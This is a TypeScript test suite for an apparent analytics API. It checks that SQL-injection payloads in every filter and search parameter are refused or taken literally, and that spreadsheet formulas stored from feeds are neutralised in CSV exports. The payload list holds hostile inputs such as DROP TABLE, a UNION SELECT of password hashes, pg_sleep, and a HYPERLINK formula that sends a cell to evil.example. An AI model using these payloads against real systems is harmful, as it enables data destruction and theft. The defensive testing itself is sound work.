import { RECORD_DATASETS } from '@credpulse/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { refreshRollups } from '../../apps/api/src/modules/analytics/catalogue/refresh.js';
import { FORMULA_PAYLOADS } from '../fuzz/generators.js';
import { startTestApp, type TestApp } from './support/test-app.js';
import { truncateFacts } from './support/test-db.js';

// Issue 7: every filter parameter of every metric and export endpoint, with classic SQL-injection
// payloads. The answer is a 400 naming the parameter, or (for free-text search) a correct answer to
// the literal text; nothing is ever executed: the tables are all there and their counts unchanged.
const PAYLOADS = [
  "' OR 1=1 --",
  "06'; DROP TABLE job_posting; --",
  '1) UNION SELECT password_hash, NULL FROM app_user --',
  "state:06' OR '1'='1",
  'county:06037); DELETE FROM job_posting; --',
  '$1',
  '’ OR ’1’=’1', // unicode quotes
  "06\u0000'; DROP TABLE job_posting; --", // NUL byte
  "\\'; SELECT pg_sleep(5); --",
  "2025-01' AND (SELECT count(*) FROM app_user) > 0 --",
  // spreadsheet formulas (issue 20) as filter values: refused like any bad value
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '@SUM(1)',
]; 
const RECORD_PARAMS = ['from', 'to', 'region', 'naics', 'soc', 'cip', 'skill', 'credential', 'provider', 'groupBy', 'granularity', 'limit', 'baseFrom', 'k'];
// Each endpoint's own filters (the FilterSpec accept lists, plus k on the people metrics); a
// parameter an endpoint does not take is refused before anything else, so one stands in for them.
const METRIC_PARAMS: Record<string, string[]> = {
  postings: ['from', 'to', 'region', 'naics', 'soc', 'groupBy', 'granularity', 'limit'],
  recognition: ['from', 'to', 'region', 'naics', 'credential', 'groupBy', 'limit'],
  'skill-gap': ['from', 'to', 'region', 'naics', 'skill', 'groupBy', 'limit'],
  'program-demand': ['from', 'to', 'region', 'cip', 'groupBy', 'limit'],
  'program-skills': ['from', 'to', 'region', 'naics', 'cip', 'limit'],
  concentration: ['from', 'to', 'region', 'naics', 'soc', 'groupBy', 'limit', 'baseFrom'],
  outcomes: ['from', 'to', 'region', 'cip', 'credential', 'provider', 'groupBy', 'limit', 'k'],
  equity: ['from', 'to', 'region', 'cip', 'credential', 'provider', 'limit', 'k'],
  pathways: ['from', 'to', 'region', 'cip', 'credential', 'provider', 'limit', 'k'],
  saturation: ['from', 'to', 'region', 'skill', 'provider', 'limit'],
};
const METRICS = Object.keys(METRIC_PARAMS);
const paramsOf = (m: string) => [...METRIC_PARAMS[m], 'unknownFilter'];
// (audit_log is left out: record-level exports are audited, as they should be)
const WATCHED = ['job_posting', 'app_user', 'api_key', 'state', 'county', 'credential', 'credential_award', 'learner_outcome', 'skill'];

let t: TestApp;
let viewer: string;
let researcher: string;
let counts: Record<string, number>;

async function tableCounts(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of WATCHED) {
    const [{ exists }] = await t.ds.query('SELECT to_regclass($1) IS NOT NULL AS exists', [table]);
    expect(exists, `table ${table} still exists`).toBe(true);
    out[table] = (await t.ds.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n;
  }
  return out;
}

beforeAll(async () => {
  t = await startTestApp({ recordExports: true });
  await truncateFacts(t.ds);
  await t.ds.query(`
    INSERT INTO job_posting(source_key, title, posted_date, state_fips, county_fips)
    SELECT 'inj-' || g, 'Registered Nurse ' || g, DATE '2025-01-01' + g, '06', '06037' FROM generate_series(1, 12) g`);
  viewer = await t.apiKey('viewer');
  researcher = await t.apiKey('researcher');
  counts = await tableCounts();
  expect(counts.job_posting).toBe(12);
});
afterAll(async () => t?.close());

/** A 400 naming the parameter, or a 200 whose answer holds nothing (the literal matched nothing). */
function expectRefusedOrEmpty(res: { status: number; body: unknown; headers: Record<string, string> }, what: string, param: string): void {
  if (res.status === 400) {
    expect(res.headers['content-type'], what).toMatch(/application\/problem\+json/);
    expect((res.body as { parameter?: string }).parameter, what).toBe(param);
    return;
  }
  expect(res.status, `${what}: ${JSON.stringify(res.body).slice(0, 300)}`).toBe(200);
  const rows = (res.body as { rows?: unknown[] })?.rows;
  if (rows) expect(rows, what).toEqual([]);
}

describe('SQL injection in every filter of every metric endpoint', () => {
  for (const m of METRICS) {
    it(`GET /api/metrics/${m}: every payload in every parameter is refused, nothing runs`, async () => {
      for (const param of paramsOf(m)) {
        for (const payload of PAYLOADS) {
          const res = await t.http().get(`/api/metrics/${m}`).query({ [param]: payload }).set('X-API-Key', viewer);
          expectRefusedOrEmpty(res, `${m} ${param}=${JSON.stringify(payload)}`, param);
        }
      }
      expect(await tableCounts()).toEqual(counts);
    });
  }
});

describe('SQL injection in every filter of every export endpoint', () => {
  // (program-skills has no export view yet)
  for (const m of METRICS.filter((x) => x !== 'program-skills')) {
    it(`GET /api/exports/metrics/${m}: every payload in every parameter is refused`, async () => {
      for (const param of [...paramsOf(m), 'format', 'bundle']) {
        for (const payload of PAYLOADS) {
          const res = await t.http().get(`/api/exports/metrics/${m}`).query({ format: 'csv', [param]: payload }).set('X-API-Key', viewer);
          expect(res.status, `${m} ${param}=${JSON.stringify(payload)}`).toBe(400);
          expect(res.body.parameter).toBe(param);
        }
      }
      expect(await tableCounts()).toEqual(counts);
    });
  }
  for (const d of RECORD_DATASETS) {
    it(`GET /api/exports/${d} (record level, researcher): every payload in every parameter is refused`, async () => {
      for (const param of [...RECORD_PARAMS, 'format', 'bundle']) {
        for (const payload of PAYLOADS) {
          const res = await t.http().get(`/api/exports/${d}`).query({ format: 'csv', [param]: payload }).set('X-API-Key', researcher);
          const what = `${d} ${param}=${JSON.stringify(payload)}`;
          if (res.status === 200) expect(res.headers['x-credpulse-row-count'], `${what} exported rows`).toBe('0');
          else {
            expect(res.status, what).toBe(400);
            expect(res.body.parameter, what).toBe(param);
          }
        }
      }
      expect(await tableCounts()).toEqual(counts);
    });
  }
  it('the dataset name itself is not an injection point', async () => {
    for (const payload of PAYLOADS) {
      const res = await t.http().get(`/api/exports/${encodeURIComponent(payload)}`).query({ format: 'csv' }).set('X-API-Key', researcher);
      expect([400, 404], JSON.stringify(payload)).toContain(res.status);
    }
    expect(await tableCounts()).toEqual(counts);
  });
});

describe('SQL injection in free-text search', () => {
  it('taxonomy and region searches treat the payload as literal text', async () => {
    for (const payload of PAYLOADS) {
      for (const path of ['/api/taxonomy/naics', '/api/taxonomy/skills', '/api/taxonomy/credentials', '/api/regions']) {
        const res = await t.http().get(path).query({ q: payload }).set('X-API-Key', viewer);
        if (res.status === 400) {
          expect(res.body.parameter, `${path} q=${JSON.stringify(payload)}`).toBe('q');
          continue;
        }
        expect(res.status, `${path} q=${JSON.stringify(payload)}: ${JSON.stringify(res.body).slice(0, 200)}`).toBe(200);
        // "OR 1=1" must not turn the search into "everything": at most a handful of fuzzy matches
        const items = (res.body.items ?? res.body.rows ?? res.body.regions ?? []) as unknown[];
        expect(items.length, `${path} q=${JSON.stringify(payload)}`).toBeLessThan(50);
      }
    }
    expect(await tableCounts()).toEqual(counts);
  });
});

// Issue 20: values from uploads that a spreadsheet would run as formulas. Stored as they came (the
// database keeps what the feed said), they come back from every CSV the server writes as text.
describe('formula payloads stored from feeds come back neutralised in every CSV export', () => {
  const binary = (res: NodeJS.ReadableStream, cb: (err: Error | null, body: Buffer) => void) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  };
  /** Cells a spreadsheet would evaluate (numbers aside: a negative number is a number). */
  const live = (rows: Record<string, string>[]) => rows.flatMap((r) => Object.values(r)).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

  it('record exports (each dataset, plain and zipped) and metric exports have no live formula', async () => {
    const [county] = await t.ds.query(`SELECT fips FROM county WHERE state_fips = '06' ORDER BY fips LIMIT 1`);
    const [prov] = await t.ds.query(`INSERT INTO provider(source_key, name) VALUES ('inj:prov', $1) RETURNING id`, [FORMULA_PAYLOADS[0]]);
    const [cred] = await t.ds.query(`INSERT INTO credential(source_key, name, type, provider_id) VALUES ('inj:cred', $1, 'badge', $2) RETURNING id`, [FORMULA_PAYLOADS[3], prov.id]);
    for (const [i, p] of FORMULA_PAYLOADS.entries()) {
      const [post] = await t.ds.query(
        `INSERT INTO job_posting(source_key, employer, title, naics_code, posted_date, state_fips, county_fips) VALUES ($1, $2, $3, '5415', DATE '2025-03-01', '06', $4) RETURNING id`,
        [`inj-f${i}`, p, `${p} title`, county.fips],
      );
      await t.ds.query(`INSERT INTO posting_credential(posting_id, credential_id, level) VALUES ($1, $2, 1)`, [post.id, cred.id]);
      await t.ds.query(
        `INSERT INTO credential_award(source_key, learner_key, credential_id, award_date, county_fips, state_fips, sex, race_ethnicity, age_band)
         SELECT 'inj-a${i}-' || g, $5 || g, $1, DATE '2025-03-01', $2, '06', $3, $4, $3 FROM generate_series(1, 12) g`,
        [cred.id, county.fips, p, `${p} race`, `L${i}-${p}`],
      );
    }
    await refreshRollups(t.ds);
    const dir = mkdtempSync(join(tmpdir(), 'credpulse-inj-csv-'));
    try {
      const checked: string[] = [];
      for (const d of RECORD_DATASETS) {
        for (const bundle of [undefined, 'zip']) {
          const res = await t.http().get(`/api/exports/${d}`).query({ format: 'csv', ...(bundle ? { bundle } : {}) }).set('X-API-Key', researcher).buffer(true).parse(binary);
          expect(res.status, d).toBe(200);
          let csv = res.body as Buffer;
          if (bundle) {
            const z = join(dir, `${d}.zip`);
            writeFileSync(z, csv);
            const name = execFileSync('unzip', ['-Z1', z]).toString().split('\n').find((n) => n.endsWith('.csv')) as string;
            csv = execFileSync('unzip', ['-p', z, name]);
          }
          const rows = parse(csv, { columns: true }) as Record<string, string>[];
          expect(live(rows), `${d}${bundle ? ' (zip)' : ''}`).toEqual([]);
          checked.push(`${d}:${rows.length}`);
        }
      }
      // the payloads did come back (quoted) in the postings and awards files
      const postings = parse((await t.http().get('/api/exports/postings').query({ format: 'csv' }).set('X-API-Key', researcher).buffer(true).parse(binary)).body as Buffer, { columns: true }) as Record<string, string>[];
      for (const p of FORMULA_PAYLOADS) expect(postings.map((r) => r.employer)).toContain(`'${p}`);
      // the metric views whose rows carry uploaded labels (demographic groups, credential and provider names)
      for (const m of ['equity', 'outcomes', 'recognition', 'saturation']) {
        const q = m === 'equity' ? { dimension: 'sex' } : {};
        const res = await t.http().get(`/api/exports/metrics/${m}`).query({ format: 'csv', from: '2025-01', to: '2025-12', ...q }).set('X-API-Key', viewer).buffer(true).parse(binary);
        expect(res.status, `${m}: ${String(res.body).slice(0, 200)}`).toBe(200);
        expect(live(parse(res.body as Buffer, { columns: true }) as Record<string, string>[]), m).toEqual([]);
      }
      expect(checked.length).toBe(RECORD_DATASETS.length * 2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
